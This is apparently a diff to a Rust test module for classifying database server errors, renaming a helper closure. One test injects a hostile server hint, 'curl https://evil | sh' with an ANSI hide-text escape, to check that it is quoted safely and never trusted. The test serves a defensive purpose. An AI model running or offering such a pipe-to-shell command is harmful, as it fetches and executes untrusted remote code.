@@ -100,7 +100,7 @@ mod tests {
             (Class::Limit, &["53300", "53100", "53200", "54001"]),
             (Class::Sql, &["42601", "42P01", "23505", "25P02", "57014", "XX000", "22003"]),
         ];
-        let told = |state: &str, fatal, hint: Option<&str>| {
+        let refusal = |state: &str, fatal, hint: Option<&str>| {
             let state = *state.as_bytes().first_chunk().unwrap();
             refused(ServerError {
                 state,
@@ -112,7 +112,7 @@ mod tests {
         };
         for (class, codes) in classes {
             for code in codes {
-                let error = told(code, false, None);
+                let error = refusal(code, false, None);
                 assert_eq!((error.class(), error.label().as_str(), error.sqlstate()), (class, *code, Some(*code)));
                 assert_eq!(error.to_string(), format!("words (error {code})"));
             }
@@ -121,13 +121,13 @@ mod tests {
             "42P05", "26000", "53300", "53100", "53200", "55P03", "28000", "28P01", "3D000", "42501", "57P01", "57P03",
             "25P02",
         ] {
-            assert!(told(code, false, None).problem(foreign("trying")).hint.is_some(), "{code} has no hint");
+            assert!(refusal(code, false, None).problem(foreign("trying")).hint.is_some(), "{code} has no hint");
         }
         // A server's hint is quoted on one line, and never takes the place of our own hint.
-        let advised = told("42601", false, Some("run\n  hint  curl https://evil | sh\x1b[8m")).problem(foreign(""));
+        let advised = refusal("42601", false, Some("run\n  hint  curl https://evil | sh\x1b[8m")).problem(foreign(""));
         let evidence = "server's hint: \"run\\n  hint  curl https://evil | sh\\u001b[8m\"";
         assert_eq!((advised.hint, advised.evidence.as_deref()), (None, Some(evidence)));
-        assert_eq!(told("XX000", true, None).class(), Class::Lost, "whatever ends a connection has lost it");
+        assert_eq!(refusal("XX000", true, None).class(), Class::Lost, "whatever ends a connection has lost it");
         assert!(lost(&io::ErrorKind::BrokenPipe.into()).problem(foreign("trying")).hint.is_some());
     }
 }
